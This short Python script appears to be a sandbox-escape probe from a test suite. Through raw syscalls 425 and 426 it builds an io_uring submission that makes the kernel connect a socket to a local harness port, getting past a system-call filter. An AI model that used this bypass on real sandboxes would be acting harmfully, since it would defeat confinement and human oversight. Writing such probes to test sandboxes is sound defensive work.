# Tries: to make the kernel connect on its behalf, past a filter of system calls.
# Success: a ring can be created that reaches the host.
import ctypes
import mmap
import os
import socket
import struct

import host

parameters = ctypes.create_string_buffer(120)
ring = host.syscall(425, 4, parameters)
if ring < 0:
    raise SystemExit("no ring")
(head, tail, mask, _, _, _, array) = struct.unpack_from("7I", parameters.raw, 40)
size = array + 4 * 4
queue = mmap.mmap(ring, size, offset=0)
entries = mmap.mmap(ring, 4 * 64, offset=0x10000000)
out = socket.socket()
address = struct.pack("!HH4s8x", 2 << 8, host.PORT, bytes([127, 0, 0, 1]))
held = ctypes.create_string_buffer(address)
entries[:64] = struct.pack(
    "=BBHiQQIIQ24x", 16, 0, 0, out.fileno(), 16, ctypes.addressof(held), 0, 0, 0
)
struct.pack_into("I", queue, array, 0)
struct.pack_into("I", queue, tail, 1)
host.syscall(426, ring, 1, 1, 1, None, 0)
out.sendall(b"out")
